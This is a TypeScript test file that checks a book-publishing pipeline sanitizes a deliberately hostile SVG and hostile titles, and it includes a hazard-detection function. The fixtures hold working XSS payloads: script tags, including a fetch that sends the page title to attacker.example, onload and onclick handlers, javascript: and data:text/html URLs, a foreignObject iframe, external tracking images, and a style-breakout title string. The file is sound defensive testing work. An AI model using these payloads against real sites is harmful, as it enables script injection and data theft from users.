/**
 * Issue 12: hostile content must not run or leak. A book whose SVG image carries scripts, handlers,
 * foreignObject, animations and external references, and whose chapter and book titles try to close the
 * page's `<style>` and open a `<script>`, is built; every HTML and SVG file written is then parsed the way
 * a browser parses it and must hold no script element, no event handler, no javascript:/vbscript:/
 * data:text/html URL and no reference outside the build. HTML only (no browser).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import type { Element, Root } from 'hast';
import { find, html as htmlSchema } from 'property-information';
import { cssString } from '../pipeline/pdf/page-css.ts';
import { sanitizeSvg } from '../pipeline/html/sanitize-svg.ts';
import { build, tempProject, writeBook } from './helpers.ts';

const EVIL_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50" onload="alert('load')">
  <style>@import url("http://attacker.example/x.css"); .a { fill: url(http://attacker.example/p.png) } .b { fill: url(#grad) }</style>
  <script>fetch('http://attacker.example/?' + document.title)</script>
  <script type="text/ecmascript"><![CDATA[ alert(1) ]]></script>
  <linearGradient id="grad"><stop offset="0" stop-color="#8a1c1c"/></linearGradient>
  <rect width="100" height="50" fill="url(#grad)" onclick="alert('click')" style="stroke: url('https://attacker.example/s')"/>
  <image href="http://attacker.example/track.png" width="10" height="10"/>
  <image xlink:href="//attacker.example/t.png" width="10" height="10"/>
  <a href="javascript:alert('a')"><text x="5" y="20">图中文字</text></a>
  <a xlink:href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text x="5" y="40">second</text></a>
  <foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://attacker.example/"></iframe></div></foreignObject>
  <set attributeName="href" to="javascript:alert('set')"/>
  <animate attributeName="href" values="javascript:alert('animate')"/>
  <use href="http://attacker.example/sprite.svg#icon"/>
  <use href="#grad"/>
</svg>
`;
const EVIL_TITLE = `"</style><script>alert('title')</script><img src=x onerror=alert(1)>'`;
const yamlQuote = (s: string) => `'${s.replace(/'/g, "''")}'`;

/** Every problem a browser-parsed document shows: scripts, handlers, script URLs, external references. */
function hazards(text: string, name: string): string[] {
  const found: string[] = [];
  const tree: Root = fromHtml(text, { fragment: !/^\s*<!doctype/i.test(text) });
  visit(tree, 'element', (node: Element) => {
    // The site's own script (templates/base/page.html: search and sidebar) is a file of the edition, with no
    // inline code; any other script is a hazard.
    const ownScript = node.tagName === 'script' && node.properties.src === 'assets/site.js' && node.children.length === 0;
    if (!ownScript && ['script', 'iframe', 'object', 'embed', 'foreignObject', 'set', 'animate', 'handler'].includes(node.tagName)) found.push(`${name}: <${node.tagName}>`);
    for (const [key, value] of Object.entries(node.properties)) {
      const attribute = find(htmlSchema, key).attribute.toLowerCase();
      const v = Array.isArray(value) ? value.join(' ') : String(value);
      if (attribute.startsWith('on')) found.push(`${name}: ${attribute} on <${node.tagName}>`);
      if (/^\s*(javascript|vbscript|data:text\/html)/i.test(v) || /javascript:/i.test(v)) found.push(`${name}: script URL in ${attribute}`);
      if (['href', 'src', 'xlink:href', 'srcset', 'poster', 'action', 'formaction', 'data'].includes(attribute) && /^\s*([a-z][a-z0-9+.-]*:|\/\/)/i.test(v) && !/^\s*data:image\//i.test(v)) {
        found.push(`${name}: external ${attribute}="${v}" on <${node.tagName}>`);
      }
      if (/url\(\s*['"]?\s*(https?:|\/\/)/i.test(v)) found.push(`${name}: external url() in ${attribute}`);
    }
    if (node.tagName === 'style') {
      const css = node.children.map((c) => (c.type === 'text' ? c.value : '')).join('');
      if (/@import|url\(\s*['"]?\s*(https?:|\/\/)/i.test(css)) found.push(`${name}: external reference in <style>`);
    }
  });
  return found;
}

test('a hostile SVG and hostile titles: the built files hold no script, handler, script URL or external reference', async () => {
  const project = tempProject();
  writeBook(project, {
    chapters: {
      '01-a.md': `---\ntitle: ${yamlQuote(EVIL_TITLE + ' 标题')}\nshort: ${yamlQuote(EVIL_TITLE)}\n---\n\n正文。\n\n![示意](images/evil.svg)\n`,
    },
  });
  project.write('manuscripts/test-book/images/evil.svg', EVIL_SVG);
  project.write('manuscripts/test-book/book.yaml', project.read('manuscripts/test-book/book.yaml').replace('title: 测试之书', `title: ${yamlQuote(EVIL_TITLE)}\n    subtitle: ${yamlQuote(EVIL_TITLE)}`));
  const result = await build(project);
  assert.ok(result.ok, JSON.stringify(result.diagnostics.filter((d) => d.severity === 'error')));

  const out = join(project.out, 'test-book', 'zh');
  const written = readdirSync(out, { recursive: true, withFileTypes: true }).filter((e) => e.isFile() && /\.(html|svg)$/.test(e.name));
  assert.ok(written.some((e) => e.name === 'print.html') && written.some((e) => e.name === 'evil.svg') && written.some((e) => e.name === 'a.html'));
  const problems = written.flatMap((e) => hazards(readFileSync(join(e.parentPath, e.name), 'utf8'), e.name));
  assert.deepEqual(problems, []);

  // The drawing itself survives: its text, the local gradient and the local <use>.
  const site = readFileSync(join(out, 'site', 'a.html'), 'utf8');
  assert.match(site, /图中文字/);
  assert.match(site, /fill="url\(#svg1-grad\)"/);
  // The titles are text: in print.html's page CSS as CSS escapes, in the pages as text.
  const print = readFileSync(join(out, 'print.html'), 'utf8');
  assert.ok(print.includes(cssString(EVIL_TITLE).slice(1, -1)), 'the running head carries the escaped title');
  const tree = fromHtml(print);
  let titleText = '';
  visit(tree, 'element', (node: Element) => {
    if (node.tagName === 'h1' && String(node.properties.className ?? '').includes('chapter-title')) titleText = node.children.map((c) => (c.type === 'text' ? c.value : '')).join('');
  });
  assert.equal(titleText, `${EVIL_TITLE} 标题`);

  // Each removal is a warning at the SVG file.
  const warnings = result.diagnostics.filter((d) => d.ruleId === 'svg-sanitized');
  assert.ok(warnings.every((d) => d.file === 'manuscripts/test-book/images/evil.svg' && d.severity === 'warning'));
  const said = warnings.map((d) => d.message).join('\n');
  for (const what of ['<script>', 'onload attribute on <svg>', 'onclick attribute on <rect>', '<foreignObject>', '<set>', '<animate>', '@import in <style>', 'external href "http://attacker.example/track.png" on <image>', 'external xlink:href "//attacker.example/t.png" on <image>', 'external href "javascript:alert(\'a\')" on <a>']) {
    assert.ok(said.includes(what), `reported: ${what}`);
  }
});

test('cssString: no text can end a <style> element or a CSS string', () => {
  assert.equal(cssString('第一章 标题'), '"第一章 标题"');
  assert.equal(cssString('a"b\\c'), '"a\\22 b\\5c c"');
  assert.equal(cssString('</style><script>'), '"\\3c /style\\3e \\3c script\\3e "');
  assert.equal(cssString('line\nbreak'), '"line\\a break"');
});

test('sanitizeSvg keeps a clean SVG as it is drawn and refuses a file without an <svg> root', () => {
  const clean = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100" width="200" height="100"><rect width="200" height="100" fill="#fff"/><circle cx="100" cy="50" r="30" fill="#8a1c1c"/></svg>';
  assert.deepEqual(sanitizeSvg(clean + '\n'), { svg: clean, removed: [] });
  assert.deepEqual(sanitizeSvg('<html><script>alert(1)</script></html>'), { svg: undefined, removed: ['everything: the file has no <svg> root element'] });
  // A relative image beside the SVG and a data: image stay; a path climbing out does not.
  const images = sanitizeSvg('<svg xmlns="http://www.w3.org/2000/svg"><image href="pic.png"/><image href="data:image/png;base64,AAAA"/><image href="../../secret.png"/></svg>');
  assert.equal(images.svg, '<svg xmlns="http://www.w3.org/2000/svg"><image href="pic.png"/><image href="data:image/png;base64,AAAA"/><image/></svg>');
  assert.deepEqual(images.removed, ['external href "../../secret.png" on <image>']);
});
